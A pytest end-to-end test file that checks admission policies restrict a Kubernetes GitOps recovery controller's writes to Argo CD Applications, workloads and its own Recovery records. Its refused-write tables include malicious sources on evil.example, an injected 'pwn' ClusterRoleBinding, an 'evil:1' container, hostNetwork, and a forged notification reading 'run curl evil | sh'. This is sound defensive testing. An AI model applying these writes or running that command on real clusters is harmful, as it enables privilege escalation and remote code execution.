"""The API server bounds our own token, whatever the installation is called: four installations,
asked one after the other."""

from __future__ import annotations

import itertools
import json
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.testbed import helm
from tests.testbed.bed import Bed
from tests.testbed.installation import ROOT
from tests.testbed.processes import wait_for
from tools import chart

pytestmark = pytest.mark.e2e
EVIL = json.dumps(
    {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": "pwn"},
    }
)
SOURCE = {"repoURL": "https://git.example/good.git", "path": "."}
OLD = {"repoURL": "https://git.example/good.git", "path": "old"}
OURS = {"initiatedBy": {"username": "gitops-recovery-controller"}}
RUNNING = {
    "phase": "Running",
    "startedAt": "2026-01-01T00:00:00Z",
    "operation": {"sync": {"revision": "aaa"}},
}


def application(**more: Any) -> dict[str, Any]:
    return {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Application",
        "metadata": {
            "name": "victim",
            "namespace": "argocd",
            "annotations": {"a": "b"},
            "labels": {"x": "y"},
        },
        "spec": {
            "project": "default",
            "source": SOURCE,
            "destination": {"server": "https://kubernetes.default.svc", "namespace": "shop"},
            "syncPolicy": {
                "automated": {"prune": False},
                "syncOptions": ["PruneLast=true"],
                "retry": {"limit": 2},
            },
        },
        "status": {
            "sync": {
                "status": "OutOfSync",
                "revision": "bbb",
                "comparedTo": {"source": SOURCE, "destination": {}},
            },
            "history": [
                {"id": 1, "revision": "aaa", "source": OLD, "deployedAt": "2026-01-01T00:00:00Z"}
            ],
            "operationState": RUNNING,
        },
        **more,
    }


def sync(**fields: Any) -> dict[str, Any]:
    return {"operation": {**OURS, "sync": fields}}


def automated(**fields: Any) -> dict[str, Any]:
    return {"spec": {"syncPolicy": {"automated": fields}}}


def state(**fields: Any) -> dict[str, Any]:
    return {"status": {"operationState": fields or None}}


REFUSED: dict[str, dict[str, Any]] = {
    "another source in the spec": {"spec": {"source": {"repoURL": "https://evil.example/x.git"}}},
    "another destination": {"spec": {"destination": {"namespace": "kube-system"}}},
    "another project": {"spec": {"project": "admin"}},
    "ignored differences": {"spec": {"ignoreDifferences": [{"kind": "*", "jsonPointers": ["/"]}]}},
    "sync options of the application": {"spec": {"syncPolicy": {"syncOptions": ["Replace=true"]}}},
    "a retry of the application": {"spec": {"syncPolicy": {"retry": {"limit": 99}}}},
    "prune switched on": automated(prune=True),
    "allowEmpty switched on": automated(allowEmpty=True),
    "selfHeal switched on": automated(selfHeal=True),
    "automated taken out": {"spec": {"syncPolicy": {"automated": None}}},
    "a label": {"metadata": {"labels": {"z": "1"}}},
    "a finalizer": {"metadata": {"finalizers": ["resources-finalizer.argocd.argoproj.io"]}},
    "an owner": {
        "metadata": {
            "ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "u"}]
        }
    },
    "another's annotation": {
        "metadata": {"annotations": {"notifications.example/subscribe": "me"}}
    },
    "an annotation of the owner's for us": {
        "metadata": {"annotations": {"recovery.gitops.dev/sync": "allowed"}}
    },
    "an annotation taken away": {"metadata": {"annotations": {"a": None}}},
    "manifests": sync(manifests=[EVIL]),
    "any source": sync(source={"repoURL": "https://evil.example/x.git", "path": "."}),
    "any sources": sync(sources=[{"repoURL": "https://evil.example/x.git", "path": "."}]),
    "a revision nobody named": sync(source=SOURCE, revision="ccc"),
    "an old revision of the present source": sync(source=SOURCE, revision="aaa"),
    "the present revision of an old source": sync(source=OLD, revision="bbb"),
    "prune": sync(revision="bbb", prune=True),
    "Force": sync(revision="bbb", syncOptions=["Force=true"]),
    "Replace": sync(revision="bbb", syncOptions=["Replace=true"]),
    "force in the strategy": sync(revision="bbb", syncStrategy={"hook": {"force": True}}),
    "force in the other strategy": sync(revision="bbb", syncStrategy={"apply": {"force": True}}),
    "a dry run": sync(revision="bbb", dryRun=True),
    "single resources": sync(revision="bbb", resources=[{"kind": "Secret", "name": "x"}]),
    "somebody else's name": {"operation": {"initiatedBy": {"username": "admin"}, "sync": {}}},
    "as if automated": {
        "operation": {
            "initiatedBy": {"username": "gitops-recovery-controller", "automated": True},
            "sync": {},
        }
    },
    "an operation that is no sync": {"operation": {**OURS}},
    "a retry of its own": {
        "operation": {**OURS, "sync": {"revision": "bbb"}, "retry": {"limit": 100}}
    },
    "an operation state of another operation": {
        **sync(),
        "status": {
            "operationState": {"operation": {"sync": {"manifests": [EVIL]}}, "phase": "Running"}
        },
    },
    "a phase that is none of ours": state(phase="Succeeded"),
    "a message in the operation state": state(phase="Terminating", message="forged"),
    "history": {"status": {"history": []}},
    "health": {"status": {"health": {"status": "Healthy"}}},
}
ALLOWED: dict[str, list[dict[str, Any]]] = {
    "refresh": [
        {
            "metadata": {
                "annotations": {
                    "argocd.argoproj.io/refresh": "hard",
                    "argocd.argoproj.io/refresh-timestamp": "1",
                }
            }
        }
    ],
    "terminate": [state(phase="Terminating")],
    "repair": [{"status": {"operationState": None}}],
    "sync of what Git wants": [
        {
            "operation": {
                **OURS,
                "info": [{"name": "recovery.gitops.dev/recovery", "value": "cart-1/1.0/1"}],
                "sync": {
                    "prune": False,
                    "syncStrategy": {"hook": {}},
                    "revision": "bbb",
                    "source": SOURCE,
                    "syncOptions": ["PruneLast=true", "ServerSideApply=true"],
                },
                "retry": {"limit": 2},
            },
            "status": {"operationState": None},
        },
        {"operation": None},
    ],
    "rollback: suspend, go back, release": [
        {
            "metadata": {"annotations": {"recovery.gitops.dev/hold": "{}"}},
            **automated(enabled=False),
        },
        {
            **sync(prune=False, syncStrategy={"apply": {}}, revision="aaa", source=OLD),
            "status": {"operationState": None},
        },
        {
            "operation": None,
            "metadata": {"annotations": {"recovery.gitops.dev/hold": None}},
            **automated(enabled=None),
        },
    ],
}
WORKLOAD: dict[str, Any] = {
    "apiVersion": "apps/v1",
    "kind": "Deployment",
    "metadata": {"name": "web", "namespace": "shop", "annotations": {"a": "b"}},
    "spec": {
        "selector": {"matchLabels": {"app": "web"}},
        "template": {
            "metadata": {"labels": {"app": "web"}},
            "spec": {"containers": [{"name": "main", "image": "web:1"}]},
        },
    },
}
KINDS: dict[str, dict[str, Any]] = {
    "Deployment": {},
    "StatefulSet": {"serviceName": "web"},
    "DaemonSet": {},
}
UNKNOWN = {("StatefulSet", "paused"), ("DaemonSet", "paused"), ("DaemonSet", "replicas")}
"""Fields that the kind does not have: nothing is changed by them."""
RESTART = {
    "spec": {
        "template": {
            "metadata": {
                "annotations": {"kubectl.kubernetes.io/restartedAt": "2026-01-01T00:00:00Z"}
            }
        }
    }
}
FORBIDDEN_OF_WORKLOADS = {
    "replicas": {"spec": {"replicas": 0}},
    "a container": {
        "spec": {"template": {"spec": {"containers": [{"name": "evil", "image": "evil:1"}]}}}
    },
    "a host's network": {"spec": {"template": {"spec": {"hostNetwork": True}}}},
    "another annotation of the template": {
        "spec": {"template": {"metadata": {"annotations": {"x": "y"}}}}
    },
    "a label of the template": {"spec": {"template": {"metadata": {"labels": {"x": "y"}}}}},
    "an annotation": {"metadata": {"annotations": {"a": "c"}}},
    "a label": {"metadata": {"labels": {"x": "y"}}},
    "paused": {"spec": {"paused": True}},
}


class Installed:
    """One installation on the control plane, and what its ServiceAccount is called."""

    def __init__(self, bed: Bed, namespace: str, account: str, argocd: str = "argocd") -> None:
        self.bed, self.namespace, self.account, self.argocd = bed, namespace, account, argocd
        self.config = bed.kubeconfig_for(account, namespace)

    def kubectl(self, *words: str, text: str = "", config: Path | None = None) -> str:
        """As the controller: what kubectl says, good or bad."""
        command = [str(self.bed.bin / "kubectl"), f"--kubeconfig={config or self.config}", *words]
        done = subprocess.run(command, input=text, capture_output=True, text=True, check=False)
        return done.stdout + done.stderr

    def patch(
        self,
        kind: str,
        namespace: str,
        name: str,
        body: dict[str, Any],
        config: Path | None = None,
        part: str = "",
    ) -> str:
        return self.kubectl(
            "-n",
            namespace,
            "patch",
            kind,
            name,
            "--type=merge",
            "-p",
            json.dumps(body),
            *([f"--subresource={part}"] if part else []),
            config=config,
        )


@pytest.fixture(scope="module")
def bed() -> Iterator[Bed]:
    started = Bed()
    try:
        yield started.start_kubernetes()
    finally:
        started.stop()


def _kustomized(bed: Bed, folder: Path, **more: Any) -> str:
    folder.mkdir()
    body = {
        "apiVersion": "kustomize.config.k8s.io/v1beta1",
        "kind": "Kustomization",
        "resources": [str(_relative(folder))],
        **more,
    }
    (folder / "kustomization.yaml").write_text(yaml.safe_dump(body))
    return bed.kubectl("kustomize", "--load-restrictor=LoadRestrictionsNone", str(folder))


def _relative(folder: Path) -> Path:
    return Path("../" * len(folder.resolve().parts[1:])) / str(ROOT / "manifests/base").lstrip("/")


def _helm(_: Bed, __: Path) -> str:
    command = [
        str(helm.ready()),
        "template",
        "night",
        str(chart.CHART),
        "-n",
        "platform",
        "--kube-version",
        "1.34.0",
        "--include-crds",
    ]
    return subprocess.run(
        [*command, "--set", "nameSuffix=-night"], check=True, capture_output=True, text=True
    ).stdout


INSTALLATIONS: dict[str, tuple[Callable[[Bed, Path], str], str, str]] = {
    "as it is shipped": (
        lambda bed, _: bed.kubectl("kustomize", str(ROOT / "manifests/base")),
        "gitops-system",
        "gitops-recovery-controller",
    ),
    "in another namespace": (
        lambda bed, f: _kustomized(bed, f, namespace="elsewhere"),
        "elsewhere",
        "gitops-recovery-controller",
    ),
    "with a prefix": (
        lambda bed, f: _kustomized(bed, f, namespace="acme", namePrefix="acme-"),
        "acme",
        "acme-gitops-recovery-controller",
    ),
    "by helm": (_helm, "platform", "gitops-recovery-controller"),
}


@pytest.fixture(scope="module", params=INSTALLATIONS, ids=lambda name: name.replace(" ", "-"))
def installed(
    request: pytest.FixtureRequest, bed: Bed, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Installed]:
    render, namespace, account = INSTALLATIONS[request.param]
    text = render(bed, tmp_path_factory.mktemp("rendered") / "installation")
    bed.kubectl("create", "namespace", namespace, check=False)
    bed.kubectl("apply", "--server-side", "--force-conflicts", "-f", "-", text=text)
    bed.established("recoveries.recovery.gitops.dev")
    found = Installed(bed, namespace, account)
    _anew(bed)
    # A policy is in force some moments after it was made; each try is another write.
    number = itertools.count()
    label = lambda: {"metadata": {"labels": {"tried": str(next(number))}}}  # noqa: E731 (another one each time)
    wait_for(
        "the policies to bind",
        lambda: "denied" in found.patch("application", "argocd", "victim", label()),
        60,
    )
    wait_for(
        "those of workloads, too",
        lambda: "denied" in found.patch("deployment", "shop", "web", label()),
        60,
    )
    yield found
    bed.kubectl("delete", "--wait=false", "-f", "-", text=text, check=False)
    gone = "validatingadmissionpolicies,validatingadmissionpolicybindings,clusterrolebindings"
    wait_for(
        "it to be gone",
        lambda: "gitops-recovery" not in bed.kubectl("get", gone, "-o", "name", check=False),
        60,
    )


def _anew(bed: Bed, **more: Any) -> None:
    """The victim as it was, whatever was written to it."""
    bed.kubectl("-n", "argocd", "delete", "application", "victim", "--ignore-not-found")
    bed.kubectl("create", "-f", "-", text=json.dumps(application(**more)))
    for kind, more in KINDS.items():
        bed.kubectl("-n", "shop", "delete", kind, "web", "--ignore-not-found")
        bed.kubectl(
            "create",
            "-f",
            "-",
            text=json.dumps({**WORKLOAD, "kind": kind, "spec": {**WORKLOAD["spec"], **more}}),
        )


def test_every_forbidden_write_to_an_application_is_refused(installed: Installed) -> None:
    allowed = {
        name: said
        for name, body in REFUSED.items()
        if "denied" not in (said := installed.patch("application", "argocd", "victim", body))
    }
    assert allowed == {}


def test_nobody_elses_operation_is_replaced_or_taken_back(installed: Installed) -> None:
    _anew(
        installed.bed, operation={"initiatedBy": {"username": "admin"}, "sync": {"revision": "bbb"}}
    )
    for body in (sync(revision="bbb"), {"operation": None}):
        assert "denied" in installed.patch("application", "argocd", "victim", body)


def test_every_write_that_it_needs_is_allowed(installed: Installed) -> None:
    for name, bodies in ALLOWED.items():
        _anew(installed.bed)
        for body in bodies:
            said = installed.patch("application", "argocd", "victim", body)
            assert "patched" in said, (name, body, said)


def test_an_application_elsewhere_is_bound_however_the_right_was_given(
    installed: Installed,
) -> None:
    rules = [
        {"apiGroups": ["argoproj.io"], "resources": ["applications"], "verbs": ["get", "patch"]}
    ]
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "anywhere"}
    subjects = [
        {"kind": "ServiceAccount", "name": installed.account, "namespace": installed.namespace}
    ]
    kind = {"apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "anywhere"}}
    installed.bed.apply(
        {**kind, "kind": "ClusterRole", "rules": rules},
        {**kind, "kind": "ClusterRoleBinding", "roleRef": reference, "subjects": subjects},
    )
    away = application()
    away["metadata"] |= {"namespace": "shop", "name": "away"}
    installed.bed.kubectl("create", "-f", "-", text=json.dumps(away))
    assert "denied" in installed.patch("application", "shop", "away", REFUSED["manifests"])
    assert "patched" in installed.patch("application", "shop", "away", ALLOWED["refresh"][0])
    installed.bed.kubectl("-n", "shop", "delete", "application", "away")
    installed.bed.kubectl("delete", "clusterrolebinding,clusterrole", "anywhere")


def test_what_the_components_let_through(bed: Bed, tmp_path: Path) -> None:
    for name, variable in (("force", "forces"), ("argocd-before-3.1", "takesOut")):
        above = Path("../" * len((tmp_path / name).resolve().parts[1:])) / str(
            ROOT / "manifests/components" / name
        ).lstrip("/")
        text = _kustomized(bed, tmp_path / name, components=[str(above)])
        policy = next(
            o
            for o in yaml.safe_load_all(text)
            if o["metadata"]["name"] == "gitops-recovery-controller-applications"
        )
        values = {v["name"]: v["expression"] for v in policy["spec"]["variables"]}
        assert {n for n in ("forces", "takesOut") if values[n] == "true"} == {variable}


@pytest.mark.parametrize("kind", KINDS)
def test_a_workload_is_restarted_and_nothing_else(installed: Installed, kind: str) -> None:
    assert "patched" in installed.patch(kind, "shop", "web", RESTART)
    allowed = {
        name: said
        for name, body in FORBIDDEN_OF_WORKLOADS.items()
        if (kind, name) not in UNKNOWN
        and "denied" not in (said := installed.patch(kind, "shop", "web", body))
    }
    assert allowed == {}


def test_leases_and_config_maps_by_name(installed: Installed) -> None:
    lease = {"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "spec": {}}
    made = {}
    for namespace, kind, name in (
        ("argocd", "Lease", "gitops-recovery-controller-shard-0"),
        ("argocd", "Lease", "argocd-applicationset-controller"),
        (installed.namespace, "ConfigMap", "recovery-checkpoint-3"),
        (installed.namespace, "ConfigMap", "recovery-pauses"),
        (installed.namespace, "ConfigMap", "recovery-policies-2"),
        (installed.namespace, "ConfigMap", "kube-root-ca-2"),
    ):
        body = lease if kind == "Lease" else {"apiVersion": "v1", "kind": kind}
        text = json.dumps({**body, "metadata": {"name": name, "namespace": namespace}})
        made[name] = "created" in installed.kubectl("create", "-f", "-", text=text)
    assert {name for name, done in made.items() if done} == {
        "gitops-recovery-controller-shard-0",
        "recovery-checkpoint-3",
        "recovery-pauses",
    }
    for name, done in made.items():
        if done:
            kind = "lease" if "shard" in name else "configmap"
            where = "argocd" if kind == "lease" else installed.namespace
            installed.bed.kubectl("-n", where, "delete", kind, name)


def test_argo_cd_with_its_wildcard_role_writes_whatever_is_missing(installed: Installed) -> None:
    bed = installed.bed
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": "argocd-application-controller"},
    }
    role["rules"] = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]  # type: ignore[assignment]
    account = {
        "apiVersion": "v1",
        "kind": "ServiceAccount",
        "metadata": {"name": "argocd-application-controller", "namespace": "argocd"},
    }
    subject = {
        "kind": "ServiceAccount",
        "name": "argocd-application-controller",
        "namespace": "argocd",
    }
    binding = {**role, "kind": "ClusterRoleBinding", "subjects": [subject]}
    del binding["rules"]
    binding["roleRef"] = {
        "apiGroup": "rbac.authorization.k8s.io",
        "kind": "ClusterRole",
        "name": "argocd-application-controller",
    }  # type: ignore[assignment]
    bed.apply(account, role, binding)
    theirs = bed.kubeconfig_for("argocd-application-controller", "argocd")
    bare = {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Application",
        "metadata": {"name": "bare", "namespace": "argocd"},
        "spec": {"project": "", "destination": {}},
    }
    assert "created" in installed.kubectl("create", "-f", "-", text=json.dumps(bare), config=theirs)
    for body in (
        {"status": {"health": {"status": "Healthy"}, "operationState": RUNNING}},
        {"operation": {"sync": {"manifests": [EVIL]}}, "status": {"operationState": None}},
        {
            "metadata": {
                "labels": {"a": "b"},
                "annotations": {"x": "y"},
                "finalizers": ["resources-finalizer.argocd.argoproj.io"],
            }
        },
        {"spec": {"syncPolicy": {"automated": {"prune": True}}}},
        {"operation": None, "metadata": {"finalizers": None}},
    ):
        said = installed.patch("application", "argocd", "bare", body, theirs)
        assert "patched" in said, said
    # A tenant may have Argo CD deploy any object: a record is none that comes this way.
    assert "denied" in installed.kubectl(
        "create", "-f", "-", text=json.dumps(record(installed.namespace)), config=theirs
    )
    bed.kubectl("-n", "argocd", "delete", "application", "bare")


def record(namespace: str, name: str = "sick-1", **status: Any) -> dict[str, Any]:
    subject = {
        "kind": "Application",
        "namespace": "argocd",
        "name": "sick",
        "uid": "u",
        "project": "default",
    }
    asked = {"type": "approve", "by": "bob", "time": "2026-01-01T00:00:00Z", "step": "1.0"}
    return {
        "apiVersion": "recovery.gitops.dev/v1alpha2",
        "kind": "Recovery",
        "metadata": {
            "name": name,
            "namespace": namespace,
            "labels": {"recovery.gitops.dev/policy": "p"},
        },
        "spec": {
            "policy": "p",
            "subject": subject,
            "openedTime": "2026-01-01T00:00:00Z",
            "requests": [asked],
        },
        "status": {"format": 2, "policyHash": "h", "phase": "Suppressed", **status},
    }


def written(bed: Bed, body: dict[str, Any]) -> dict[str, Any]:
    """The object as it is after its status was written, by a cluster admin."""
    where = ("-n", body["metadata"]["namespace"], "get", "rcv", body["metadata"]["name"])
    made: dict[str, Any] = json.loads(bed.kubectl(*where, "-o", "json"))
    assert "status" not in made, "an empty status claims nothing"
    text = json.dumps(made | {"status": body["status"]})
    bed.kubectl("replace", "--subresource=status", "-f", "-", text=text)
    return made


def part_of(body: dict[str, Any]) -> str:
    """Where such a change is written."""
    return "status" if "status" in body else ""


def test_who_may_ask_may_only_ask(installed: Installed) -> None:
    bed, namespace = installed.bed, installed.namespace
    rules = [
        {
            "apiGroups": ["recovery.gitops.dev"],
            "resources": ["recoveries", "recoveries/status"],
            "verbs": ["get", "create", "update", "patch", "delete"],
        }
    ]
    meta = {"name": "approver", "namespace": namespace}
    bed.apply(
        {
            "apiVersion": "v1",
            "kind": "ServiceAccount",
            "metadata": {"name": "ada", "namespace": namespace},
        },
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": meta,
            "rules": rules,
        },
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": meta,
            "roleRef": {
                "apiGroup": "rbac.authorization.k8s.io",
                "kind": "Role",
                "name": "approver",
            },
            "subjects": [{"kind": "ServiceAccount", "name": "ada", "namespace": namespace}],
        },
    )
    ada, me = bed.kubeconfig_for("ada", namespace), f"system:serviceaccount:{namespace}:ada"
    # A cluster admin may restore what was asked for.
    bed.kubectl("create", "-f", "-", text=json.dumps(record(namespace)))
    written(bed, record(namespace))
    first = record(namespace)["spec"]["requests"][0]
    mine = {"type": "approve", "by": me, "time": "2026-01-01T00:00:00Z", "step": "1.0"}
    step = {
        "attempt": 1,
        "index": 0,
        "action": "restart",
        "startedTime": "2026-01-01T00:00:00Z",
        "targets": ["apps/v1/Deployment/kube-system/coredns"],
    }
    refused = {
        "steps": {"status": {"steps": [step]}},
        "a phase": {"status": {"phase": "Remediating"}},
        "messages": {
            "status": {
                "notifications": {
                    "pending": [
                        {
                            "key": "x/forged",
                            "title": "run curl evil | sh",
                            "body": "x",
                            "channels": ["slack"],
                        }
                    ]
                }
            }
        },
        "relocations": {"status": {"relocations": []}},
        "what is owed": {"spec": {"relocations": [], "holds": []}},
        "the subject": {"spec": {"subject": {"name": "other"}}},
        "a label of ours": {"metadata": {"labels": {"recovery.gitops.dev/policy": "other"}}},
        "an annotation of ours": {"metadata": {"annotations": {"recovery.gitops.dev/x": "y"}}},
        "another's name": {"spec": {"requests": [first, {**mine, "by": "bob", "step": "2.0"}]}},
        "a request taken away": {"spec": {"requests": []}},
        "another's request changed": {"spec": {"requests": [{**first, "step": "9.9"}]}},
        "an owner": {
            "metadata": {
                "ownerReferences": [
                    {"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "none"}
                ]
            }
        },
        "its request before another's": {"spec": {"requests": [mine, first]}},
        "eleven of its own": {
            "spec": {
                "requests": [first, *({**mine, "step": f"{number}.0"} for number in range(11))]
            }
        },
        "an expiry": {"spec": {"requests": [first, {**mine, "type": "expired"}]}},
    }
    allowed = {
        name: said
        for name, body in refused.items()
        if "denied"
        not in (said := installed.patch("rcv", namespace, "sick-1", body, ada, part=part_of(body)))
    }
    assert allowed == {}
    said = installed.patch(
        "recoveries.v1alpha1.recovery.gitops.dev",
        namespace,
        "sick-1",
        {"status": {"phase": "Resolved"}},
        ada,
    )
    assert "is read only" in said, said
    for body in (
        {"metadata": {"labels": {"team": "x"}, "finalizers": ["backup.example/keep"]}},
        {"metadata": {"finalizers": None}},
        {"spec": {"requests": [first, mine]}},
    ):
        said = installed.patch("rcv", namespace, "sick-1", body, ada)
        assert "patched" in said, said
    other = json.dumps(record(namespace, "sick-2"))
    assert "denied" in installed.kubectl("create", "-f", "-", text=other, config=ada)
    held = json.loads(bed.kubectl("-n", namespace, "get", "rcv", "sick-1", "-o", "json"))
    held["spec"]["requests"] = [{**first, "type": "expired"}]
    assert "replaced" in installed.kubectl("replace", "-f", "-", text=json.dumps(held))
    held = json.loads(bed.kubectl("-n", namespace, "get", "rcv", "sick-1", "-o", "json"))
    held["status"] = {"format": 2, "policyHash": "h", "phase": "Remediating"}
    put = ("replace", "--subresource=status", "-f", "-")
    assert "denied" in installed.kubectl(*put, text=json.dumps(held), config=ada)
    assert "replaced" in installed.kubectl(*put, text=json.dumps(held))
    held = json.loads(bed.kubectl("-n", namespace, "get", "rcv", "sick-1", "-o", "json"))
    held["spec"]["requests"] = [{**first, "by": "carol"}]
    assert "denied" in installed.kubectl("replace", "-f", "-", text=json.dumps(held)), (
        "the controller asks for nothing itself"
    )
    # Who is named may restore.
    found = json.loads(
        bed.kubectl(
            "-n", namespace, "get", "rolebindings", "-l", "recovery.gitops.dev/bounds", "-o", "json"
        )
    )["items"]
    (bound,) = (item["metadata"]["name"] for item in found)
    bed.kubectl(
        "-n",
        namespace,
        "annotate",
        "rolebinding",
        bound,
        f"recovery.gitops.dev/restorers=velero,{me}",
    )
    wait_for(
        "the restorer to be known",
        lambda: "created" in installed.kubectl("create", "-f", "-", text=other, config=ada),
        20,
    )
    assert "deleted" in installed.kubectl(
        "-n", namespace, "delete", "rcv", "sick-1", "sick-2", config=ada
    )


def test_the_roles_in_argo_cds_namespace_stay_there(installed: Installed) -> None:
    user = f"--as=system:serviceaccount:{installed.namespace}:{installed.account}"

    def can(verb: str, what: str, where: str) -> str:
        asked = ("auth", "can-i", verb, what, "-n", where, user)
        return installed.bed.kubectl(*asked, check=False).strip()

    assert can("patch", "applications.argoproj.io", "argocd") == "yes"
    assert can("patch", "applications.argoproj.io", "shop") == "no"
    assert can("list", "replicasets.apps", "shop") == "yes"
    assert can("get", "secrets", "argocd") == "no"


def test_kubectl_reads_it_as_any_other_object(installed: Installed) -> None:
    bed, namespace = installed.bed, installed.namespace
    body = record(namespace, "sick-9")
    conditions = [
        {
            "type": kind,
            "status": status,
            "reason": "Recovered",
            "message": "",
            "lastTransitionTime": "2026-01-01T00:00:00Z",
            "observedGeneration": 1,
        }
        for kind, status in (("Ready", "True"), ("Reconciling", "False"), ("Stalled", "False"))
    ]
    bed.kubectl("create", "-f", "-", text=json.dumps(body))
    standing = {"phase": "Resolved", "observedGeneration": 1, "conditions": conditions}
    written(bed, body | {"status": body["status"] | standing})

    waits = ("wait", "rcv/sick-9", "--for=condition=Ready", "--timeout=5s")
    assert "condition met" in bed.kubectl("-n", namespace, *waits)
    listed = bed.kubectl("-n", namespace, "get", "gitops", "-o", "wide")
    assert listed.split()[:9] == [
        *("NAME", "SUBJECT", "POLICY", "CAUSE", "PHASE", "STALLED", "ATTEMPT", "AGE", "MESSAGE")
    ]
    explained = bed.kubectl("explain", "recovery.status.steps.review")
    assert "Reverted" in explained
    bed.kubectl("-n", namespace, "delete", "rcv", "sick-9")
